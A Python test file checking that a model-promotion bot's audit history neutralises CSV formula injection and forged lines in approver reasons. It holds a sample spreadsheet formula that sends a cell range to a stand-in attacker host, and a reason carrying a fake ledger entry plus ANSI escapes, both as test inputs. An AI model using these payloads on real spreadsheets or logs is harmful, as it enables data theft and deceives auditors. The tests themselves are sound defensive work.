"""`history`'s output is read by people and their spreadsheets: what it shows of an approver's
free text (a reason) or of a run planted in the ledger must stay text.

- CSV, the format for auditors: a cell a spreadsheet would evaluate as a formula (`=`, `+`, `-`,
  `@`, a tab or carriage return first; OWASP "CSV Injection") gets a leading `'`, and reading
  the CSV back gives the text as written.
- The table and `--at`'s answer: one line per entry whatever a reason holds; line breaks, ESC
  sequences and other control or format characters are written as escapes, so a second line
  can never read as a change that did not happen.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.ledger.entry import inert, revived
from bot.reports.audit import (
    Query,
    champion_at,
    history_entries,
    read_csv,
    render,
    render_at,
    shown,
)
from tests.forge_world import World, make_world

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
REASON = '=HYPERLINK("https://attacker.example/?d="&ENCODEURL(A2:T99),"see the review")'


@pytest.fixture(params=["gitlab", "github"])
def world(
    request: pytest.FixtureRequest, tracking_uri: str, model_name: str, tmp_path: Path
) -> Iterator[World]:
    with make_world(request.param, tracking_uri, model_name, tmp_path) as world:
        yield world


def test_history_csv_holds_no_formula(world: World) -> None:
    command = "@promotion-bot promote" if world.platform == "gitlab" else "/promote"
    outcome = world.handle(world.post(world.number, f"{command}\n{REASON}"))
    assert outcome.status == "changed", outcome

    entries = history_entries(world.ctx, Query(model=world.model))
    text = render(entries, "csv")

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert formulas == [], f"cells a spreadsheet evaluates: {formulas}"
    # ... and the auditor's round trip still gives the reason as written.
    assert [entry.reason for entry in read_csv(text)] == [REASON]


def test_a_reason_cannot_add_lines_to_the_history_table(world: World) -> None:
    forged = f"2026-03-03T14:00:00.000Z  {world.model}  promote  v1 -> v9  by cto (owner)"
    reason = f"Looks good.\n{forged}\n\x1b[2K\x1b[1A"  # a fake entry, then erase-line/cursor-up
    command = "@promotion-bot promote" if world.platform == "gitlab" else "/promote"
    assert world.handle(world.post(world.number, f"{command}\n{reason}")).status == "changed"

    entries = history_entries(world.ctx, Query(model=world.model))
    table = render(entries, "table")

    assert len(entries) == 1
    assert len(table.splitlines()) == 1, table
    assert "\x1b" not in table

    at = champion_at(world.ctx, world.model, entries[0].at_ms)
    answer = render_at(world.model, entries[0].at_ms, at, "table")
    assert not any(line.startswith("2026-03-03T14:00") for line in answer.splitlines()), answer
    assert "\x1b" not in answer


@given(st.text())
def test_a_cell_is_never_a_formula_and_reads_back_as_written(text: str) -> None:
    cell = inert(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert revived(cell) == text


@given(st.text())
def test_shown_text_is_one_line_without_control_characters(text: str) -> None:
    line = shown(text)
    assert len(line.splitlines()) <= 1
    assert not any(ord(char) < 32 or 0x7F <= ord(char) < 0xA0 for char in line)
    assert "\u202e" not in line  # a right-to-left override would reorder what follows
